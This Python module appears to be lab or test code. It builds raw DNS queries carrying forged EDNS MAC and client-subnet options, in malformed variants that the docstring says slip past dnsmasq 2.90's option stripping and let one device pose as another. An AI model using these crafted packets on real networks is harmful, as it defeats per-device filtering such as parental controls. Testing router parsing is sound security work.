"""DNS messages by which a child's device may claim to be another one, made byte by byte.

The odd ones get past strip-mac and strip-subnet of dnsmasq 2.90; see `scripts/lab`.
"""

import struct
from collections.abc import Callable

FORGED_MAC = bytes.fromhex("020000000bad")
FORGED_ADDRESS = "192.168.77.66"
FORGED_ECS = bytes.fromhex("00012000c0a84d42")
RAW_MAC, TEXT_MAC, ECS = 65001, 65073, 8


def message(
    qname: str, additional: int, after: bytes, *, answers: int = 0, authorities: int = 0, opcode: int = 0
) -> bytes:
    """A query for A with these counts in its header and these bytes after its question."""
    question = b"".join(bytes([len(label)]) + label.encode() for label in qname.split(".")) + b"\0\0\1\0\1"
    return struct.pack("!6H", 0x4B47, 0x0100 | opcode << 11, 1, answers, authorities, additional) + question + after


def opt(*options: tuple[int, bytes]) -> bytes:
    """An OPT record with these options."""
    data = b"".join(struct.pack("!HH", code, len(value)) + value for code, value in options)
    return b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(data)) + data


FORGED_OPT = opt((RAW_MAC, FORGED_MAC), (ECS, FORGED_ECS))
_A_RECORD = b"\1z\4test\0" + struct.pack("!HHIH", 1, 1, 60, 4) + bytes(4)
_TSIG_DATA = b"\x0bhmac-sha256\0" + struct.pack("!HIHH", 0, 0, 300, 32) + bytes(32) + struct.pack("!HHH", 0x4B47, 0, 0)
_TSIG = b"\3key\0" + struct.pack("!HHIH", 250, 255, 0, len(_TSIG_DATA)) + _TSIG_DATA


def ordinary(qname: str) -> bytes:
    """A well-formed query with forged options, which a stripping router cleans."""
    return message(qname, 1, FORGED_OPT)


ODD: dict[str, Callable[[str], bytes]] = {
    "signed": lambda qname: message(qname, 2, FORGED_OPT + _TSIG),
    "count-too-high": lambda qname: message(qname, 3, FORGED_OPT),
    "opt-not-last": lambda qname: message(qname, 2, opt((RAW_MAC, FORGED_MAC)) + _A_RECORD),
    "two-opts": lambda qname: message(qname, 2, FORGED_OPT + opt()),
    "opt-in-answer": lambda qname: message(qname, 0, FORGED_OPT, answers=1),
    "opt-in-authority": lambda qname: message(qname, 0, FORGED_OPT, authorities=1),
    "notify": lambda qname: message(qname, 1, FORGED_OPT, opcode=4),
}
